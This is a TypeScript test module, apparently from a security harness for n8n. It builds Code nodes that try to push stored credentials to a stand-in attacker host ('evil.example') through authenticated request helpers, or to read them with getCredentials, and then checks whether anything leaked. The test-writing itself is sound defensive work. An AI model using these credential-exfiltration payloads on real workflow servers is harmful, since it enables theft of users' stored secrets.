import { CONTROL_SECRET } from './arena.cjs';
import { counted, EIGHT, proves, watching, type Attack } from './attack.cjs';
import { runFan } from './fan.cjs';
import { textOf } from './internet.cjs';
import type { Step } from '../../test/e2e/support/workflow.cjs';
import type { StoredCredential } from '../lib/n8nRest.cjs';

/** n8n's Code node with a credential that its editor does not offer, but an imported workflow can give it. */
const code = (name: string, credential: StoredCredential, jsCode: string): Step => ({
	name,
	type: 'n8n-nodes-base.code',
	typeVersion: 2,
	parameters: { jsCode },
	credential,
	continueOnFail: true,
});

const call = (helper: string, type: string): string => `
	const type = '${type}';
	const options = { method: 'GET', url: 'https://evil.example/code', uri: 'https://evil.example/code', rejectUnauthorized: false };
	return [{ json: { answer: await this.helpers.${helper}.call(this, type, options) } }];`;

const paged = (type: string): string => `
	const options = { method: 'GET', uri: 'https://evil.example/code' };
	const paging = { continue: '={{ false }}', request: {} };
	return [{ json: { answer: await this.helpers.requestWithAuthenticationPaginated.call(this, options, 0, paging, '${type}') } }];`;

const read = (type: string): string => `
	return [{ json: { credential: await this.getCredentials('${type}') } }];`;

export const codeNode: Attack = {
	name: 'The Code node with the credential: helpers, getCredentials',
	who: 'U',
	against: EIGHT,
	run: async (arena) => {
		const plain = `
			await this.helpers.httpRequest({ url: 'https://evil.example/code', headers: { a: '${CONTROL_SECRET}' } });
			return [];`;
		const control = await watching(arena, () =>
			runFan(arena.rest, 'code, control', [code('code', arena.control, plain)], [{}]),
		);
		proves(
			control.atAttackers.some((visit) => textOf(visit).includes(CONTROL_SECRET)),
			'the Code node sends nothing at all',
		);
		const broken: string[] = [];
		const ways = (type: string): string[] => [
			call('httpRequestWithAuthentication', type),
			call('requestWithAuthentication', type),
			paged(type),
			read(type),
		];
		for (const { name, stored, type, data } of arena.accounts) {
			const steps = ways(type).map((text, index) => code(`code ${index}`, stored, text));
			const { result, atAttackers } = await watching(arena, () =>
				runFan(arena.rest, `code, ${name}`, steps, [{}]),
			);
			broken.push(...atAttackers.map(({ origin }) => `${name}: arrived at ${origin}`));
			const fields = steps.flatMap((step) => result.json(step.name));
			if (fields.some(({ credential }) => credential !== undefined)) {
				broken.push(`${name}: ${Object.keys(data).length} fields in the output`);
			}
		}
		return { tries: arena.accounts.length * 4, broken: counted(broken) };
	},
};
